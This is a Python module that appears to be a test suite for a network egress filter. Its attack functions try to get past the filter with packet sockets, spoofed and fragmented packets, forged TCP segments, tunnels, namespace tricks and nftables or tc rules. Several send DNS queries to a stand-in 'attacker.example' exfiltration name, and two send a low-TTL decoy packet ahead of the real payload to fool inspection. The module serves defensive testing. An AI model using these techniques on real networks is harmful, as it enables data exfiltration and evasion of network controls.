# SPDX-License-Identifier: MIT
"""Below the sockets: packet sockets, devices of the attacker's own making, tunnels, containers that are forwarded."""
import ctypes
import errno
import ipaddress
import mmap
import os
import random
import socket
import struct
import subprocess
import time

import craft
import raw
from kernel import PACKET_QDISC_BYPASS, SOL_PACKET, checked, libc, setns, tun, unshare, CLONE_NEWNET
from table import BRIDGE, JOINED, ROUTED, Unavailable, at_uplink, attack, ends, held, packed

PACKET = "packet sockets"
TUNNEL = "devices and tunnels of the attacker's own"
BOX = "a container behind a bridge"
ETHERTYPE = {4: 0x0800, 6: 0x86DD}
ADMIN = {"caps": ("NET_ADMIN",)}
ROOT = {"caps": ("NET_ADMIN", "SYS_ADMIN")}


def ether(t, data, ethertype=None):
    return t.router_mac + t.own_mac + struct.pack("!H", ethertype or ETHERTYPE[t.family]) + data


def datagram(t, **kw):
    return craft.ip(t.source, t.to, craft.UDP, craft.udp(t.source, t.to, 4444, t.port, t.marker), **kw)


def packet_socket(device="eth0", kind=socket.SOCK_RAW):
    s = socket.socket(socket.AF_PACKET, kind, 0)
    s.bind((device, 0))
    return s


def tool(*argv):
    r = subprocess.run(argv, capture_output=True, text=True)
    if r.returncode:
        said = r.stderr.strip() or r.stdout.strip()
        if "Operation not permitted" in said:
            raise PermissionError(errno.EPERM, said)
        raise Unavailable(f"{' '.join(argv[:4])}: {said}")


@attack(PACKET, "a frame from a packet socket", "uplink", "packet-socket", container=at_uplink("forwarded"))
def packet_raw(t):
    packet_socket().send(ether(t, datagram(t)))


@attack(PACKET, "a packet from a packet socket of type SOCK_DGRAM", "uplink", "packet-socket",
        container=at_uplink("forwarded"))
def packet_dgram(t):
    s = packet_socket(kind=socket.SOCK_DGRAM)
    s.sendto(datagram(t), ("eth0", ETHERTYPE[t.family], 0, 0, t.router_mac))


@attack(PACKET, "a frame that skips the queueing layer (PACKET_QDISC_BYPASS)", "lsm", "packet-socket",
        container=at_uplink("forwarded"))
def packet_bypass(t):
    s = packet_socket()
    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    s.send(ether(t, datagram(t)))


@attack(PACKET, "a frame with a source that is not ours", "uplink", "packet-socket", container=at_uplink("forwarded"))
def packet_spoofed(t):
    source = "203.0.113.10" if t.family == 4 else "2001:db8:10::10"
    packet_socket().send(ether(t, craft.ip(source, t.to, craft.UDP, craft.udp(source, t.to, 1, 2, t.marker))))


@attack(PACKET, "fragments: first, later, overlapping, tiny", "uplink", "packet-socket",
        container=at_uplink("packet-malformed"))
def packet_fragments(t):
    s = packet_socket()
    for make in (raw.old_fragment_first, raw.old_fragment_later, raw.old_fragment_overlapping, raw.old_fragment_tiny):
        for p in make.packets(t):
            s.send(ether(t, p))


@attack(PACKET, "a source route or routing header", "uplink", "packet-socket",
        container={4: ends(ROUTED), 6: at_uplink("source-route")})
def packet_routed(t):
    s = packet_socket()
    for p in (raw.old_source_route if t.family == 4 else raw.old_routing_header).packets(t):
        s.send(ether(t, p))


@attack(PACKET, "a segment as if of a connection to an allowed address", "uplink", "packet-socket",
        container=held("tls-incomplete"))
def packet_forged(t):
    """With the addresses and ports of a connection that is really there."""
    c = t.connected(t.allowed, 443)
    segment = craft.tcp(t.source, t.allowed, c.getsockname()[1], 443, craft.PSH | craft.ACK, t.marker, seq=12345)
    packet_socket().send(ether(t, craft.ip(t.source, t.allowed, craft.TCP, segment)))


@attack(PACKET, "a DNS query for a name of the attacker's", "uplink", "packet-socket", families=(4,),
        container=at_uplink("dns-name-not-allowed"))
def packet_dns(t):
    data = craft.udp(t.source, t.resolver, 4444, 53, craft.query(t.label + ".attacker.example"))
    packet_socket().send(ether(t, craft.ip4(t.source, t.resolver, craft.UDP, data)))


@attack(PACKET, "a neighbour solicitation as from a neighbour of the attacker", "uplink", "packet-socket",
        families=(6,), container=at_uplink("forwarded"))
def packet_solicitation(t):
    source = t.to.rsplit(":", 1)[0] + ":1"
    message = craft.icmp6(source, t.to, 135, bytes(4) + t.marker * 2)
    packet_socket().send(ether(t, craft.ip6(source, t.to, craft.ICMP6, message, hops=255)))


@attack(PACKET, "a VLAN tag before the packet", "uplink", "packet-socket", families=(4,), container=ends(BRIDGE))
def packet_vlan(t):
    packet_socket().send(ether(t, struct.pack("!HH", 7, 0x0800) + datagram(t), 0x8100))


@attack(PACKET, "a frame of an unknown ethertype", "uplink", "packet-socket", families=(4,), container=ends(BRIDGE))
def packet_ethertype(t):
    packet_socket().send(ether(t, t.marker * 8, 0x88B6))


@attack(PACKET, "an ARP request for the data's address", "uplink", "packet-socket", families=(4,),
        container=ends(BRIDGE))
def packet_arp(t):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + b"\2oh\0\0\1" + t.marker[:4] + bytes(6) + t.marker[4:]
    packet_socket().send(ether(t, body + t.marker * 2, 0x0806))


@attack(PACKET, "an AF_XDP socket in copy mode", "lsm", "packet-socket", container=at_uplink("forwarded"))
def packet_xdp(t):
    frame = ether(t, datagram(t))
    s = socket.socket(44, socket.SOCK_RAW, 0)
    umem = mmap.mmap(-1, 4096 * 16)
    address = ctypes.addressof(ctypes.c_char.from_buffer(umem))
    umem[:len(frame)] = frame
    s.setsockopt(283, 4, struct.pack("QQIII4x", address, 4096 * 16, 4096, 0, 0))      # XDP_UMEM_REG
    for ring in (5, 6, 3):                                                              # fill, completion, TX
        s.setsockopt(283, ring, struct.pack("I", 16))
    offsets = struct.unpack("16Q", s.getsockopt(283, 1, 128))                           # rx, tx, fill, completion
    producer, _, descriptors = offsets[4:7]
    tx = mmap.mmap(s.fileno(), descriptors + 16 * 16, offset=0x80000000)
    bind_xdp(s, struct.pack("HHIII", 44, 2, socket.if_nametoindex("eth0"), 0, 0))
    tx[descriptors:descriptors + 16] = struct.pack("QII", 0, len(frame), 0)
    struct.pack_into("I", tx, producer, 1)
    checked(libc.sendto(s.fileno(), None, 0, 0x40, None, 0), "sendto")


def bind_xdp(s, address):
    """The queue of a socket that was closed is free a moment later."""
    for _ in range(50):
        if not libc.bind(s.fileno(), address, 16):
            return
        if ctypes.get_errno() != errno.EBUSY:
            break
        time.sleep(0.02)
    checked(-1, "bind")


# ---- with CAP_NET_ADMIN on the host, which the threat model excludes ----

@attack(TUNNEL, "a packet that a TUN device injects, to be forwarded", "uplink", "forwarded", **ADMIN)
def tun_forwarded(t):
    fd, name = tun()
    source = "10.99.0.2" if t.family == 4 else "fd00:99::2"
    tool("ip", "addr", "add", "10.99.0.1/24" if t.family == 4 else "fd00:99::1/64", "dev", name,
         *(["nodad"] if t.family == 6 else []))
    tool("ip", "link", "set", name, "up")
    os.write(fd, craft.ip(source, t.to, craft.UDP, craft.udp(source, t.to, 1, t.port, t.marker)))


@attack(TUNNEL, "a VXLAN device towards the attacker", "uplink", "packet-socket",
        container=at_uplink("forwarded"), **ADMIN)
def vxlan(t):
    tool("ip", "link", "add", "ohv", "type", "vxlan", "id", "7", "remote", t.to, "dstport", "4789", "dev", "eth0")
    try:
        tool("ip", "link", "set", "ohv", "up")
        packet_socket("ohv").send(ether(t, t.marker * 8, 0x88B6))
    finally:
        tool("ip", "link", "del", "ohv")


def tunnel(kind, t, *args):
    tool("ip", "link", "add", "oht", "type", kind, *args)
    try:
        tool("ip", "link", "set", "oht", "up")
        s = packet_socket("oht", socket.SOCK_DGRAM)
        s.sendto(datagram(t), ("oht", ETHERTYPE[t.family], 0, 0, b""))
    finally:
        tool("ip", "link", "del", "oht")


@attack(TUNNEL, "an IP-in-IP device towards the attacker", "uplink", "packet-socket",
        container=at_uplink("forwarded"), **ADMIN)
def ipip(t):
    tunnel("ipip" if t.family == 4 else "ip6tnl", t, "remote", t.to, "local", t.source)


@attack(TUNNEL, "a GRE device towards the attacker", "uplink", "packet-socket",
        container=at_uplink("forwarded"), **ADMIN)
def gre(t):
    tunnel("gre" if t.family == 4 else "ip6gre", t, "remote", t.to, "local", t.source)


@attack(TUNNEL, "a SIT device towards the attacker", "uplink", "packet-socket", families=(4,),
        container=at_uplink("forwarded"), **ADMIN)
def sit(t):
    tunnel("sit", t, "remote", t.to, "local", t.source)


@attack(TUNNEL, "a WireGuard device towards the attacker", "uplink", "packet-socket", families=(4,), **ADMIN)
def wireguard(t):
    tool("ip", "link", "add", "ohw", "type", "wireguard")
    tool("ip", "link", "del", "ohw")
    raise Unavailable("no tool here sets a peer")


@attack(TUNNEL, "a packet socket on a macvlan device above the uplink", "uplink", "packet-socket", families=(4,),
        container=at_uplink("forwarded"), **ADMIN)
def macvlan(t):
    tool("ip", "link", "add", "ohm", "link", "eth0", "type", "macvlan", "mode", "bridge")
    try:
        tool("ip", "link", "set", "ohm", "up")
        packet_socket("ohm").send(ether(t, datagram(t)))
    finally:
        tool("ip", "link", "del", "ohm")


@attack(TUNNEL, "a network namespace behind a veth pair, forwarded by the host", "uplink", "forwarded", **ROOT)
def nested_namespace(t):
    outside = os.open("/proc/self/ns/net", os.O_RDONLY)
    unshare(CLONE_NEWNET)
    pid = os.getpid()
    ours, theirs, length = ("10.98.0.2", "10.98.0.1", 24) if t.family == 4 else ("fd00:98::2", "fd00:98::1", 64)
    run = ["nsenter", f"--net=/proc/{pid}/fd/{outside}", "ip"]
    tool(*run, "link", "add", "ohn", "type", "veth", "peer", "name", "oh0", "netns", str(pid))
    try:
        tool(*run, "addr", "add", f"{theirs}/{length}", "dev", "ohn", *(["nodad"] if t.family == 6 else []))
        tool(*run, "link", "set", "ohn", "up")
        tool("ip", "addr", "add", f"{ours}/{length}", "dev", "oh0", *(["nodad"] if t.family == 6 else []))
        tool("ip", "link", "set", "oh0", "up")
        with open(f"/proc/self/fd/{outside}") as _:
            mac = subprocess.run([*run, "-o", "link", "show", "ohn"], capture_output=True, text=True).stdout
        mac = bytes.fromhex(mac.split("link/ether ")[1].split()[0].replace(":", ""))
        data = craft.ip(ours, t.to, craft.UDP, craft.udp(ours, t.to, 1, t.port, t.marker))
        packet_socket("oh0").send(mac + b"\2oh\0\0\1" + struct.pack("!H", ETHERTYPE[t.family]) + data)
    finally:
        tool(*run, "link", "del", "ohn")


@attack(TUNNEL, "an ordinary socket in a network namespace of another's making", "connect", "address-not-allowed",
        families=(4,), unseen="nothing is routed there", **ROOT)
def other_namespace(t):
    unshare(CLONE_NEWNET)
    tool("ip", "link", "set", "lo", "up")
    tool("ip", "link", "add", "oh1", "type", "veth", "peer", "name", "oh2")
    tool("ip", "addr", "add", "10.97.0.1/24", "dev", "oh1")
    tool("ip", "link", "set", "oh1", "up")
    tool("ip", "route", "add", "default", "via", "10.97.0.2")
    t.socket(socket.SOCK_STREAM, timeout=0.2).connect((t.to, t.port))


@attack(TUNNEL, "a copy that nftables sends on its own (dup)", "uplink", "protocol-not-allowed", families=(4,),
        container=ends("the host's kernel takes no loopback address from a bridge"), **ADMIN)
def nft_dup(t):
    rule = f"ip daddr 127.0.0.9 udp dport 9 dup to {t.router} device eth0"
    nft("filter", rule, lambda: t.socket().sendto(t.marker, ("127.0.0.9", 9)))


@attack(TUNNEL, "a destination that nftables rewrites on the way", "cgroup", "address-not-allowed", families=(4,),
        **ADMIN)
def nft_dnat(t):
    nft("nat", f"ip daddr {t.allowed} tcp dport 443 dnat to {t.to}:{t.port}", lambda: t.connected(t.allowed, 443, 0.5))


def nft(kind, rule, act):
    table = f"table ip oh {{ chain o {{ type {kind} hook output priority 0; {rule}; }}\n}}"
    r = subprocess.run(["nft", "-f", "-"], input=table, capture_output=True, text=True)
    if r.returncode:
        raise Unavailable("nft: " + r.stderr.strip().splitlines()[0])
    try:
        act()
    finally:
        tool("nft", "delete", "table", "ip", "oh")


@attack(TUNNEL, "what loopback carries, redirected to the uplink by tc", "uplink", "forwarded", families=(4,),
        container=ends(BRIDGE), **ADMIN)
def tc_from_loopback(t):
    tool("tc", "qdisc", "add", "dev", "lo", "clsact")
    try:
        tool("tc", "filter", "add", "dev", "lo", "egress", "protocol", "all", "u32", "match", "u32", "0", "0", "action",
             "mirred", "egress", "redirect", "dev", "eth0")
        t.socket().sendto(t.marker, ("127.0.0.1", 9))
    finally:
        tool("tc", "qdisc", "del", "dev", "lo", "clsact")


@attack(TUNNEL, "a segment-routing tunnel on the route (seg6)", "connect", "protocol-not-allowed", families=(6,),
        **ADMIN)
def seg6_route(t):
    tool("ip", "-6", "route", "add", "2001:db8:77::77", "encap", "seg6", "mode", "encap", "segs", t.to, "dev", "eth0",
         "via", t.router)
    try:
        t.socket().sendto(t.marker, ("2001:db8:77::77", t.port))
    finally:
        tool("ip", "-6", "route", "del", "2001:db8:77::77")


# ---- a container with a network namespace of its own ----

@attack(BOX, "a UDP datagram", "connect", "protocol-not-allowed", where="box")
def box_udp(t):
    t.socket().sendto(t.marker, (t.to, t.port))


@attack(BOX, "a TCP connection", "connect", "address-not-allowed", where="box")
def box_tcp(t):
    t.connected(t.to, t.port).send(t.marker)


@attack(BOX, "a raw socket", "sock_create", "raw-socket", where="box")
def box_raw(t):
    raw.send(raw.header_socket(t), t, datagram(t))


@attack(BOX, "a raw ICMPv6 socket, which is for the host's network managers only", "sock_create", "raw-socket",
        families=(6,), where="box")
def box_icmp6(t):
    raw.send(t.socket(socket.SOCK_RAW, craft.ICMP6), t, craft.icmp6(t.source, t.to, 128, b"\0\1\0\1" + t.marker))


@attack(BOX, "a frame from a packet socket, forwarded by the host", "uplink", "forwarded", where="box")
def box_packet(t):
    packet_socket().send(ether(t, datagram(t)))


@attack(BOX, "a frame that skips the container's queueing layer", "uplink", "forwarded", where="box")
def box_bypass(t):
    s = packet_socket()
    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    s.send(ether(t, datagram(t)))


@attack(BOX, "a forwarded DNS query for a name of the attacker's", "uplink", "dns-name-not-allowed", families=(4,),
        where="box")
def box_dns(t):
    data = craft.udp(t.source, t.resolver, 4444, 53, craft.query(t.label + ".attacker.example"))
    packet_socket().send(ether(t, craft.ip4(t.source, t.resolver, craft.UDP, data)))


@attack(BOX, "forwarded fragments", "uplink", "fragment", where="box", container=ends(JOINED))
def box_fragments(t):
    s = packet_socket()
    for p in raw.old_fragment_overlapping.packets(t):
        s.send(ether(t, p))


@attack(BOX, "the data as the address of a neighbour of the host's, which the host asks its link for", "", "",
        where="box",
        leaves="it is the host's own question, which comes before the packet: 1 byte of an IPv4 address, 8 of an IPv6 "
               "one, to its link")
def box_neighbour(t):
    to = "10.0.1.78" if t.family == 4 else str(ipaddress.IPv6Address(b"\xfd\0\0\1" + bytes(4) + t.marker))
    packet_socket().send(ether(t, craft.ip(t.source, to, craft.UDP, craft.udp(t.source, to, 4444, t.port, b"x"))))


@attack(BOX, "a forwarded echo request", "uplink", "forwarded", where="box")
def box_echo(t):
    data = b"\0\1\0\1" + t.marker
    message = craft.icmp(8, data) if t.family == 4 else craft.icmp6(t.source, t.to, 128, data)
    packet_socket().send(ether(t, craft.ip(t.source, t.to, craft.ICMP if t.family == 4 else craft.ICMP6, message)))


class Crafted:
    """A TCP connection by hand, from an address that leads to the bridge and that nobody has."""

    def __init__(self, t, to, port):
        self.t, self.to, self.port = t, to, port
        self.link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.link.bind(("eth0", 3))
        self.link.settimeout(2)
        answer, tries = bytes(40), 0
        while not answer[33] & craft.SYN:       # the far side has many that are still open, and wants none of it then
            self.own, self.seq, self.ack, tries = random.randrange(40000, 60000), 0x6F680001, 0, tries + 1
            self.send(craft.SYN)
            try:
                answer = self.receive()
            except TimeoutError:
                if tries == 5:
                    raise
        self.ack = struct.unpack("!I", answer[24:28])[0] + 1
        self.seq += 1
        self.send(craft.ACK)

    def send(self, flags, data=b"", hops=64, urgent=0):
        segment = craft.tcp(self.t.unused, self.to, self.own, self.port, flags, data, self.seq, self.ack, urgent=urgent)
        self.link.send(ether(self.t, craft.ip4(self.t.unused, self.to, craft.TCP, segment, ttl=hops)))

    def receive(self, payload=False):
        """The next segment of this connection, after the ARP requests for our address. The far side of an attack before
        still sends its last again."""
        mine, ends = packed(self.t.unused), struct.pack("!HH", self.port, self.own)
        while True:
            frame = self.link.recv(2000)
            if frame[12:14] == b"\x08\x06" and frame[38:42] == mine and frame[21] == 1:
                answer = frame[14:20] + b"\0\2" + self.t.own_mac + mine + frame[22:32]
                self.link.send(ether(self.t, answer, 0x0806))
            elif frame[12:14] == b"\x08\0" and frame[30:34] == mine and frame[23] == craft.TCP and \
                    frame[34:38] == ends:
                if not payload or len(frame) > 14 + 20 + (frame[46] >> 4) * 4:
                    return frame[14:]


@attack(BOX, "a hello that the first router drops, and another in its place", "uplink", "tls-not-tls", families=(4,),
        where="box")
def box_hello_changed(t):
    import tls
    seen, sent = tls.pair(t)
    c = Crafted(t, t.shared, 443)
    c.send(craft.ACK | craft.PSH, seen, 2)
    c.send(craft.ACK | craft.PSH, sent)
    c.receive(payload=True)


@attack(BOX, "a query over TCP that the first router drops, and another in its place", "uplink", "dns-malformed",
        families=(4,), where="box")
def box_query_changed(t):
    sent = craft.query(f"{t.label}.{t.label}.attacker.example")
    seen = craft.query("api.openai.com", counts=(1, 0, 0, 1),
                       tail=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, len(sent) - 43, 65001, len(sent) - 47) +
                       bytes(len(sent) - 47))
    assert len(seen) == len(sent)
    c = Crafted(t, t.resolver, 53)
    for query, hops in ((seen, 2), (sent, 64)):
        c.send(craft.ACK | craft.PSH, struct.pack("!H", len(query)) + query, hops)
    c.receive(payload=True)
